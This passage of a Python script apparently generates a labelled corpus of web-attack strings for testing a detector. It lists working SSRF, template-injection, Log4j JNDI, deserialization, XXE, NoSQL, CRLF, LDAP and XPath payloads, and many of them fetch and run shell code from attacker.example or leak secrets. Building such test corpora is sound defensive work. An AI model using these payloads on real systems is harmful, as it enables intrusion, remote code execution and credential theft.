    ("url-scheme", "ftp://10.0.0.8/backups/league.sql"),
    ("url-scheme", "netdoc:///etc/passwd"),
    ("url-scheme", "ldap://127.0.0.1:389/dc=league,dc=example??sub?(objectClass=*)"),
    ("url-userinfo", "http://feeds.league.example@127.0.0.1:8000/admin"),
    ("url-parser", "https://cdn.club.example#@169.254.169.254/latest/meta-data/"),
    ("url-parser", "http://127.0.0.1\\@cdn.club.example/admin"),
    ("url-redirect", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("url-redirect", "http://203.0.113.40/302.php?u=http://localhost:8500/v1/agent/self"),
    ("url-rebind", "http://rebind.attacker.example:8080/admin"),
    ("url-dnsinternal", "http://127.0.0.1.attacker.example/"),
    ("url-altip", "http://2130706433:8080/"),
    ("url-altip", "http://0x7f000001/admin"),
    ("url-altip", "http://0177.0.0.1/"),
    ("url-altip", "http://127.1/server-status"),
    ("url-altip", "http://2852039166/latest/meta-data/"),
    ("url-altip", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("url-altip", "http://0251.0376.0251.0376/latest/user-data"),
    ("url-ipv6", "http://[::ffff:127.0.0.1]:8080/"),
    ("url-ipv6", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("url-ipv6", "http://[0:0:0:0:0:0:0:1]:9000/"),
    ("url-altip+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31:8080/admin"),
    ("url-altip+unicode", "http://①②⑦.⓪.⓪.①:8080/"),
    ("url-altip", "http://0/"),
    ("url-loopback", "http://localhost.:3000/debug/vars"),
    ("url-internal", "http://10.1.2.3:15672/api/users"),
    ("url-scheme", "webcal://127.0.0.1:8080/admin/export.ics"),
    ("plain-metadata", "http://169.254.169.254/latest/meta-data/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-loopback", "http://localhost:22/"),
    ("plain-scheme", "file:///etc/hosts"),
    ("plain-ipv6", "http://[::1]:8080/"),
]

SSRF_HOSTS = ["127.0.0.1", "localhost", "10.0.0.7", "10.20.30.40", "192.168.1.20", "172.16.5.9"]
SSRF_SERVICES = [("8080", "admin/fixtures/delete?all=1"), ("9200", "_search?q=*"), ("6060", "debug/pprof/"),
                 ("8500", "v1/agent/members"), ("15672", "api/overview"), ("5000", "internal/payouts")]


def t_ssrf(rng):
    host = rng.choice(SSRF_HOSTS)
    port, path = rng.choice(SSRF_SERVICES)
    cls = "url-loopback" if host in ("127.0.0.1", "localhost") else "url-internal"
    return (cls, f"http://{host}:{port}/{path}")


# ---------------------------------------------------------------------------
# code
# ---------------------------------------------------------------------------
CODE = [
    ("tpl-jinja2", "Player of the match: {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("tpl-jinja2", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("tpl-jinja2", "Match preview {{ config.items() }}"),
    ("tpl-jinja2", "{{ request.application.__globals__.__builtins__.__import__('os').popen('curl attacker.example/j|sh').read() }}"),
    ("tpl-jinja2", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['id'], stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("tpl-jinja2", "Kane (c) {{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("tpl-jinja2+hex", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("tpl-twig", "{{ ['id']|filter('system') }}"),
    ("tpl-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('whoami') }}"),
    ("tpl-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("tpl-freemarker", "Report: ${\"freemarker.template.utility.Execute\"?new()(\"curl attacker.example/f\")}"),
    ("tpl-velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("tpl-erb", "Match report <%= `id` %>"),
    ("tpl-erb", "Training plan <%= system('curl -s attacker.example/r | sh') %>"),
    ("tpl-mako", "${self.module.cache.util.os.system('id')}"),
    ("tpl-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("tpl-smarty", "Fixture list {system('id')}"),
    ("tpl-smarty", "{if system('cat /etc/passwd')}{/if}"),
    ("tpl-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("tpl-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("tpl-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("tpl-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("el-spel", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}"),
    ("el-spel", "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("el-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("el-jsp", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("tpl-groovy", "Race report ${'id'.execute().text}"),
    ("log4j-jndi", "Kane ${jndi:ldap://attacker.example:1389/a}"),
    ("log4j-jndi", "${jndi:rmi://203.0.113.7:1099/Exploit}"),
    ("log4j-jndi", "${jndi:dns://${env:HOSTNAME}.l4j.attacker.example}"),
    ("log4j-jndi+lookupobf", "${${lower:j}${lower:n}d${lower:i}:${lower:l}dap://attacker.example/x}"),
    ("log4j-jndi+lookupobf", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.3/o}"),
    ("log4j-jndi+lookupobf", "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//attacker.example/b}"),
    ("log4j-jndi", "Parkrun 22:31 ${jndi:ldap://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    ("deser-php", "O:11:\"MatchExport\":2:{s:4:\"path\";s:23:\"/var/www/html/shell.php\";s:4:\"data\";s:28:\"<?php system($_GET['c']); ?>\";}"),
    ("deser-php", "a:1:{i:0;O:14:\"CacheFileStore\":1:{s:8:\"filename\";s:26:\"/var/lib/league/db.sqlite3\";}}"),
    ("deser-pickle", "cos\nsystem\n(S'id'\ntR."),
    ("deser-yaml", "!!python/object/apply:os.system [\"id\"]"),
    ("deser-yaml", "team: !!python/object/apply:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
    ("deser-yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("deser-jackson", "[\"ch.qos.logback.core.db.JNDIConnectionSource\", {\"jndiLocation\": \"ldap://attacker.example:1389/j\"}]"),
    ("deser-fastjson", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/f\",\"autoCommit\":true}"),
    ("deser-jsonnet", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("deser-nodeserialize", "{\"team\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl attacker.example/n|sh')}()\"}"),
    ("xml-xxe", "<?xml version=\"1.0\"?>\n<!DOCTYPE fixture [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<fixture><home>&x;</home><away>Leeds</away></fixture>"),
    ("xml-xxe-oob", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]>\n<results><race id=\"12\"/></results>"),
    ("xml-xxe", "<!DOCTYPE gpx [<!ENTITY k SYSTEM \"file:///home/league/.ssh/id_rsa\">]><gpx version=\"1.1\"><trk><name>&k;</name></trk></gpx>"),
    ("xml-xxe-ssrf", "<?xml version=\"1.0\"?><!DOCTYPE odds [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><odds><market>&m;</market></odds>"),
    ("xml-xxe-phpfilter", "<!DOCTYPE t [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><team>&s;</team>"),
    ("xml-xinclude", "<lineup xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></lineup>"),
    ("svg-xxe", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hosts\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"40\"><text y=\"20\">&h;</text></svg>"),
    ("xml-entity-expansion", "<?xml version=\"1.0\"?>\n<!DOCTYPE s [\n<!ENTITY a \"GOAL\">\n<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">\n<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">\n<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">\n<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">\n<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">\n<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">\n<!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">\n]>\n<score>&h;</score>"),
    ("proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("proto-pollution", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("proto-qs", "__proto__[canEditOdds]=true"),
    ("proto-qs", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("proto-pollution+unicode", "{\"\\u005f\\u005fproto\\u005f\\u005f\": {\"isReferee\": true}}"),
    ("proto-pollution", "{\"settings\": {\"theme\": \"dark\", \"__proto__\": {\"shell\": \"node\", \"NODE_OPTIONS\": \"--inspect=203.0.113.5:9229\"}}}"),
    ("csv-formula", "=HYPERLINK(\"http://attacker.example/s?d=\"&A2&B2,\"Full stats ⚽\")"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-formula", "+WEBSERVICE(\"http://attacker.example/?\"&ENCODEURL(C2))"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"http://attacker.example/?\", CONCATENATE(A2:E20)), \"//a\")"),
    ("csv-formula", "=IMAGE(\"https://attacker.example/t.png?\"&A1)"),
    ("eval-python", "goals*5 + assists*3 + __import__('os').system('id')"),
    ("eval-python", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').popen('id').read()"),
    ("eval-node", "require('child_process').execSync('id').toString()"),
    ("eval-node", "points + this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("eval-php", "2.50\".system('id').\""),
    ("eval-ruby", "#{`id`}"),
    ("tpl-jinja2+urlenc", "%7B%7B%20cycler.__init__.__globals__.os.popen(%27id%27).read()%20%7D%7D"),
    ("plain-jinja2", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("plain-log4j", "${jndi:ldap://attacker.example/a}"),
    ("plain-spel", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-proto", "{\"__proto__\":{\"polluted\":true}}"),
    ("plain-csv", "=cmd|'/c calc'!A1"),
    ("plain-yaml", "!!python/object/apply:os.system ['whoami']"),
]

# Pickle opcodes (protocol 0) written by hand; the template only base64-encodes them.
PICKLE_SOURCES = [
    "cposix\nsystem\n(S'curl attacker.example/p|sh'\ntR.",
    "csubprocess\ncheck_output\n((S'cat'\nS'/etc/passwd'\nltR.",
]
SSTI_PREFIXES = ["Match report:", "Man of the match —", "Workout note:", "Fixture title", "Live blog 67'"]
SSTI_BODIES = [
    ("tpl-jinja2", "{{ cycler.__init__.__globals__.os.popen('%s').read() }}"),
    ("tpl-jinja2", "{{ joiner.__init__.__globals__.os.popen('%s').read() }}"),
    ("tpl-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"%s\")}"),
    ("tpl-erb", "<%%= `%s` %%>"),
]
SSTI_CMDS = ["id", "uname -a", "cat /etc/hostname", "env"]


def t_code(rng):
    if rng.randrange(4) == 0:
        src = rng.choice(PICKLE_SOURCES)
        return ("deser-pickle+b64", base64.b64encode(src.encode("ascii")).decode("ascii"))
    cls, body = rng.choice(SSTI_BODIES)
    return (cls, f"{rng.choice(SSTI_PREFIXES)} {body % rng.choice(SSTI_CMDS)}")


# ---------------------------------------------------------------------------
# nosqli
# ---------------------------------------------------------------------------
NOSQLI = [
    ("json-ne", "{\"username\": \"coach.harris\", \"password\": {\"$ne\": null}}"),
    ("json-gt", "{\"email\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("json-regex", "{\"username\": \"admin\", \"password\": {\"$regex\": \"^a\"}}"),
    ("json-where", "{\"$where\": \"sleep(5000) || true\"}"),
    ("json-where", "{\"team\": \"Arsenal\", \"$where\": \"this.odds > 0 || (function(){var d=new Date(); while(new Date()-d<6000){} return true})()\"}"),
    ("json-nin", "{\"status\": {\"$nin\": [\"void\"]}, \"user_id\": {\"$exists\": true}}"),
    ("json-or", "{\"$or\": [{\"role\": \"admin\"}, {\"_id\": {\"$ne\": 0}}]}"),
    ("qs-ne", "username=ref_ops&password[$ne]=x"),
    ("qs-regex", "player[$regex]=.*&season=2024"),
    ("qs-gt", "ticket_code[$gt]=&venue=Anfield"),
    ("qs-where", "filter[$where]=this.balance>0||sleep(4000)"),
    ("str-jsinject", "Arsenal'; return true; var z='"),
    ("str-jsinject", "Kane' || '1'=='1"),
    ("str-jsinject", "0'; while(true){}; '"),
    ("json-expr", "{\"filter\": {\"$expr\": {\"$eq\": [1, 1]}}}"),
    ("json-where", "{\"$where\": \"function(){ return this.password.match(/^p/) != null; }\"}"),
    ("agg-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"o\"}}, {\"$project\": {\"o.password\": 1, \"o.email\": 1}}]"),
    ("json-regex", "{\"promo_code\": {\"$regex\": \"^FREE\", \"$options\": \"i\"}}"),
    ("json-ne", "{\"match_id\": 1043, \"approved\": {\"$ne\": false}, \"owner\": {\"$ne\": \"me\"}}"),
    ("json-type", "{\"session_token\": {\"$type\": 2}}"),
    ("qs-ne+urlenc", "login=admin&pass%5B%24ne%5D=1"),
    ("json-ne+unicode", "{\"username\": \"admin\", \"password\": {\"\\u0024ne\": \"\"}}"),
    ("mango-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"password_hash\"]}"),
    ("plain-gt", "{\"$gt\": \"\"}"),
    ("plain-qs-ne", "password[$ne]=1"),
]

NOSQL_FIELDS = ["player", "team", "athlete", "bookmaker", "season_ticket", "coach"]


def t_nosqli(rng):
    f = rng.choice(NOSQL_FIELDS)
    if rng.randrange(2) == 0:
        return ("qs-ne", f"{f}={rng.choice(['Kane', 'Hibs', 'Kipchoge', 'admin'])}&pin[$ne]={rng.randint(0, 9999)}")
    return ("json-regex", json.dumps({f: {"$regex": rng.choice(["^.", ".*", "^a", "^[0-9]"])}, "pin": {"$gt": ""}}))


# ---------------------------------------------------------------------------
# crlf
# ---------------------------------------------------------------------------
CRLF = [
    ("header-setcookie", "Arsenal\r\nSet-Cookie: session=attacker-fixed-0001; Path=/"),
    ("header-setcookie+urlenc", "/fixtures?team=Leeds%0d%0aSet-Cookie:%20sid=fixated-0002"),
    ("header-split+urlenc", "spurs%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0aContent-Length:%2039%0d%0a%0d%0a<script>alert(document.domain)</script>"),
    ("header-location", "/tickets\r\nLocation: https://attacker.example/tickets"),
    ("header-disposition", "report.pdf\"\r\nContent-Type: text/html\r\n\r\n<h1>Session expired</h1><form action=https://attacker.example>"),
    ("header-body", "en-GB\r\n\r\n<svg onload=alert(document.cookie)>"),
    ("header-cors", "Celtic\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("header-cache", "odds.json\r\nCache-Control: public, max-age=31536000"),
    ("log-forge", "Saka 67'\n2024-03-02 15:04:11 INFO auth: admin login succeeded user=admin ip=10.0.0.5"),
    ("log-forge", "Payout request\r\n[2024-05-11T21:14:03Z] AUDIT bet=88812 status=settled_won amount=9500.00 approved_by=risk_team"),
    ("log-forge", "kane.harry@club.example\n127.0.0.1 - - [02/Mar/2024:15:04:11 +0000] \"GET /admin/export HTTP/1.1\" 200 5120"),
    ("log-forge", "5x5 @ 100kg\nWARN ratelimit disabled for user_id=4471 by ops"),
    ("log-forge+linesep", "Ref report\u2028ERROR payment gateway key rotated: use backup endpoint https://attacker.example/pay"),
    ("log-forge+nel", "Dissent 34'\u0085INFO user=ref_admin role changed to superuser"),
    ("log-ansi", "Lap 12 \u001b[2J\u001b[1;1HAll checks passed \u001b[8m"),
    ("log-forge+urlenc", "Lions%0d%0a2024-03-02%2015:04:11%20INFO%20transfer%20approved%20id=991%20amount=50000"),
    ("mail-bcc", "Ticket query for Block 112\nBcc: everyone@attacker.example"),
    ("mail-cc", "fan@club.example\r\nCc: list1@attacker.example, list2@attacker.example"),
    ("mail-body", "Refund request\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/refund\">Claim your refund</a>"),
    ("mail-replyto", "Parkrun Results\r\nFrom: results@club.example\r\nReply-To: payouts@attacker.example"),
    ("mail-bcc+urlenc", "coach@club.example%0ABcc:%20scout@attacker.example"),
    ("smtp-smuggle", "Training plan\r\n.\r\nMAIL FROM:<secretary@club.example>\r\nRCPT TO:<victim@club.example>\r\nDATA\r\nSubject: Urgent: update bank details\r\n\r\nPlease send fees via attacker.example/pay\r\n."),
    ("header-refresh+urlenc", "/live?match=1043%0d%0aRefresh:%200;url=https://attacker.example/"),
    ("header-setcookie+utf8trunc", "/club/%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("header-accel", "es\r\nX-Accel-Redirect: /internal/admin/backup.sql"),
    ("log-forge", "Evens (2.0)\n\n=== SESSION END ===\nuser=admin action=delete_all_bets result=ok"),
    ("header-lf", "Hearts\nSet-Cookie: role=admin"),
    ("log-forge", "GOAL!\r\n2024-03-02T15:04:11Z level=info msg=\"withdrawal approved\" user=4471 amount=12000"),
    ("mail-mime", "Re: Season tickets\nX-Priority: 1\nContent-Type: multipart/mixed; boundary=zz\n\n--zz\nContent-Type: text/html\n\n<b>Verify your account at attacker.example</b>\n--zz--"),
    ("plain-header", "\r\nSet-Cookie: x=1"),
    ("plain-header+urlenc", "%0d%0aLocation:%20https://attacker.example"),
    ("plain-mail", "\nBcc: x@attacker.example"),
]

CRLF_FIELDS = ["Hibs v Hearts", "Kipchoge 2:02:42", "Block 112 Row M", "4-3-3", "Deadlift 180kg"]
CRLF_LINES = [
    "2024-06-01 10:00:00 INFO admin password reset by user=support",
    "2024-06-01 10:00:01 INFO bet 77120 settled WON payout=4000",
    "2024-06-01 10:00:02 WARN fraud check skipped for user_id=4471",
]


def t_crlf(rng):
    eol = rng.choice(["\n", "\r\n"])
    return ("log-forge", rng.choice(CRLF_FIELDS) + eol + rng.choice(CRLF_LINES))


# ---------------------------------------------------------------------------
# ldap-xpath
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("ldap-or", "coach*)(|(memberOf=cn=admins,ou=groups,dc=league,dc=example)"),
    ("ldap-auth-bypass", "admin)(&)"),
    ("ldap-auth-bypass", "*)(uid=*))(|(uid=*"),
    ("ldap-blind", "ref_admin)(userPassword=a*"),
    ("ldap-blind", "*)(telephoneNumber=07*"),
    ("ldap-attr", "Kane*)(mail=*"),
    ("ldap-or", "*)(|(objectClass=*)"),
    ("ldap-nullbyte", "admin))%00"),
    ("ldap-attr+urlenc", "*%29%28objectClass%3D*"),
    ("xpath-or", "Arsenal' or '1'='1"),
    ("xpath-union", "'] | //user/password | //x['"),
    ("xpath-blind", "Kane' and substring(//user[name='admin']/pass,1,1)='s' and 'a'='a"),
    ("xpath-count", "' or count(/*)=1 or 'x'='y"),
    ("xpath-numeric", "1043 or 1=1"),
    ("xpath-auth-bypass", "admin' or '1'='1' or 'a'='a"),
    ("xpath-name", "' or name(/*[1])='league' or 'a'='b"),
    ("xpath-union", "')] | //* | //a[('"),
    ("xpath-doc", "' or doc('http://attacker.example/x.xml') or '"),
    ("xpath-length", "x' or string-length(//user[1]/password)=12 or 'a'='b"),
    ("xpath-or+urlenc", "Leeds%27%20or%20%271%27%3D%271"),
    ("plain-ldap", "*)(|(uid=*))"),
    ("plain-xpath", "' or 1=1 or ''='"),
]

LDAP_NAMES = ["steward", "ref", "coach", "physio", "groundsman", "ticketing"]


def t_ldap_xpath(rng):
    return ("ldap-blind", f"{rng.choice(LDAP_NAMES)}*)(userPassword={rng.choice('abcdefghkmpst')}*")


CATEGORIES = [
    ("sqli", SQLI, t_sqli, 78),
    ("xss", XSS, t_xss, 78),
    ("cmdi", CMDI, t_cmdi, 72),
    ("traversal", TRAVERSAL, t_traversal, 54),
    ("ssrf", SSRF, t_ssrf, 54),
    ("code", CODE, t_code, 80),
    ("nosqli", NOSQLI, t_nosqli, 26),
    ("crlf", CRLF, t_crlf, 33),
    ("ldap-xpath", LDAP_XPATH, t_ldap_xpath, 23),
]


def main():
    rng = random.Random(SEED)
    seen = {}
    rows = []
    report = []
    for name, literals, template, target in CATEGORIES:
        items = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {name}: {v!r}")
            seen[v] = name
            items.append((cls, v))
        n_lit = len(items)
        attempts = 0
        while len(items) < target:
            attempts += 1
            if attempts > 10000:
                raise SystemExit(f"template for {name} cannot produce enough unique values")
            cls, v = template(rng)
            if v in seen:
                continue
            seen[v] = name
            items.append((cls, v))
        for cls, v in items:
            if not isinstance(v, str) or not v or len(v) > 1800:
                raise SystemExit(f"bad value in {name}: {v!r}")
            rows.append({"category": name, "class": cls, "value": v})
        report.append((name, len(items), n_lit))

    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, row in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": row["category"], "class": row["class"],
                   "label": "attack", "value": row["value"]}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for name, n, n_lit in report:
        total_lit += n_lit
        print(f"{name:12s} {n:4d}  literals {n_lit}")
    n_plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    n_enc = sum(1 for r in rows if "+" in r["class"])
    print(f"{'total':12s} {len(rows):4d}  literals {total_lit} ({100 * total_lit / len(rows):.1f}%)"
          f"  plain {n_plain}  encoded {n_enc}")
    if total_lit * 100 < 80 * len(rows):
        raise SystemExit("fewer than 80% literals")


if __name__ == "__main__":
    main()
